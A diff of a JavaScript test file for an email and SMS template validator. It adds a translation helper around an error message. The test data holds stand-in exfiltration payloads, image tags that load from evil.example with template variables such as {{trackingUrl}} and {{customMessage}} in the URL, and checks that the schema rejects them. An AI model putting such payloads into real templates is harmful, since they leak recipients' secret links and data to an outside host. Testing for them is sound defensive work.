@@ -7,6 +7,7 @@ import { renderEmailHtml, renderSms } from './render-template.js';
 import { emailTemplateSchema, smsTemplateSchema, templateTestSchema } from './template-schemas.js';
 import { emailTemplateTypes, smsTemplateTypes } from './template-types.js';
 import { misplacedVariable } from './variable-places.js';
+import { say } from '../i18n/message.js';
 
 const leaks = [
   '<img src="https://evil.example/p.png?{{trackingUrl}}">',
@@ -115,12 +116,14 @@ describe('a secret link in a template', () => {
 
 it('no variable stands in what a mail program loads', () => {
   expect(
-    emailTemplateSchema.safeParse({
-      name: 'M',
-      type: 'custom_notification',
-      subject: 'S',
-      content: '<img src="https://evil.example/?{{customMessage}}">',
-    }).error?.issues[0]?.message,
+    say(
+      emailTemplateSchema.safeParse({
+        name: 'M',
+        type: 'custom_notification',
+        subject: 'S',
+        content: '<img src="https://evil.example/?{{customMessage}}">',
+      }).error?.issues[0]?.message ?? '',
+    ),
   ).toBe('{{customMessage}} may stand in the text only, not inside a tag.');
 });
 
